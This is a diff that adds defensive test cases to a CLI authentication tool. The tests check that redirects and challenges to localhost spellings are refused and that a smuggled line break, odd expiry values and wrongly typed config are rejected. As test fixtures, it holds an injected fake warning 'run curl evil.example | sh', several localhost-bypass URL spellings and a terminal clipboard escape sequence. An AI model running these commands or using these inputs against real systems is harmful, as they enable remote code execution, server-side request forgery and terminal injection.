@@ -414,3 +414,102 @@ describe('a credential no HTTP header can carry', () => {
     expect(env.stderr).not.toContain(secret);
   });
 });
+
+describe('the next class, found by review: every input of the last round against the five questions', () => {
+  it('a redirect or a challenge from a remote server to this machine is refused, under any spelling of it', async () => {
+    const { checkFetchable } = await import('../../src/discovery.js');
+    const { requireWebUrlFrom } = await import('../../src/io/urls.js');
+    expect(() => checkFetchable('http://127.0.0.1:9999/admin', "the backend's redirect to", 'https://api.example.com/x')).toThrow(
+      'it is on this machine (127.0.0.1:9999), named by api.example.com, which is not',
+    );
+    for (const url of [
+      'https://0.0.0.0:9999/',
+      'https://[::]/',
+      'https://[::ffff:127.0.0.1]/',
+      'https://localhost./',
+      'https://app.localhost/',
+    ])
+      expect(() => requireWebUrlFrom(url, 'https://api.example.com'), url).toThrow('it is on this machine');
+    expect(requireWebUrlFrom('https://idp.example.com/', 'https://api.example.com').host).toBe('idp.example.com');
+    // The backend's 401 names metadata on this machine: nothing is fetched there.
+    const local = await recorder();
+    const remoteish = createServer((req, res) => {
+      if (req.url?.startsWith('/.well-known')) return void res.writeHead(404).end();
+      res.writeHead(401, { 'www-authenticate': `Bearer resource_metadata="${local.url}/admin/shutdown"` }).end();
+    });
+    await new Promise<void>((r) => remoteish.listen(0, '127.0.0.1', r));
+    try {
+      const { discoverResource } = await import('../../src/flows/resource-discovery.js');
+      const port = (remoteish.address() as AddressInfo).port;
+      // The backend is reached as a name that is not this machine's (a proxy in front, as in production).
+      const http = {
+        fetch: (input: string | URL | Request, init?: RequestInit) =>
+          fetch(
+            (typeof input === 'string' ? input : input instanceof URL ? input.href : input.url).replace(
+              'https://api.example.com',
+              `http://127.0.0.1:${port}`,
+            ),
+            init,
+          ),
+      };
+      await expect(discoverResource('https://api.example.com', http)).rejects.toThrow('it is on this machine');
+      expect(local.seen).toEqual([]);
+    } finally {
+      remoteish.close();
+      local.server.close();
+    }
+  });
+
+  it('an authorization server name with a line break is refused, not printed as a fake warning', () => {
+    const document = {
+      resource: 'https://api.example.com',
+      authorization_servers: ['https://idp.example.com/\nlatchkey: warning: run curl evil.example | sh'],
+    };
+    expect(() =>
+      checkMetadata(document, 'https://api.example.com', 'https://api.example.com/.well-known/oauth-protected-resource', 'well-known'),
+    ).toThrow('names an authorization server with a control character or line break');
+  });
+
+  it('an expiry no date can hold is no expiry, not a crash; a KUBERNETES_EXEC_INFO that is not an object is exit 2', async () => {
+    const backend = createServer((_req, res) =>
+      res.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"abc","expires_in":1e300}'),
+    );
+    await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
+    try {
+      const { exchangeIdToken } = await import('../../src/exchange/cli-auth.js');
+      const result = await exchangeIdToken(
+        {
+          backendUrl: `http://127.0.0.1:${(backend.address() as AddressInfo).port}`,
+          exchangePath: '/api/cli-auth',
+          encoding: 'form',
+          clientId: 'cli',
+          idToken: 'x.y.z',
+          cliName: 'latchkey',
+          profileName: 'p',
+        },
+        { fetch: (input, init) => fetch(input, init) },
+        systemClock,
+      );
+      expect(result).toEqual({ token: 'abc' });
+    } finally {
+      backend.close();
+    }
+    const { execInfo } = await import('../../src/flows/exec-credential.js');
+    for (const value of ['null', '"x"', '[1]']) expect(() => execInfo({ KUBERNETES_EXEC_INFO: value })).toThrow('is not a JSON object');
+  });
+
+  it('a hand-edited config with a number where a string belongs, or a nested list, is a config error', async () => {
+    for (const profile of [
+      { issuer: 'https://idp.example.com', clientId: 123 },
+      { issuer: 'https://idp.example.com', clientId: 'cli', authParams: [['acr=\u001b]52;c;aGk=\u0007']] },
+    ]) {
+      const s = setup();
+      mkdirSync(s.configDir, { recursive: true, mode: 0o700 });
+      writeFileSync(join(s.configDir, 'config.json'), JSON.stringify({ profiles: { ok: profile } }), { mode: 0o600 });
+      const result = await s.run(['profile', 'show', 'ok']);
+      expect(result.code).toBe(2);
+      expect(result.stderr).toContain('has the wrong type');
+      expect(result.stderr + result.stdout).not.toContain('\u001b');
+    }
+  });
+});
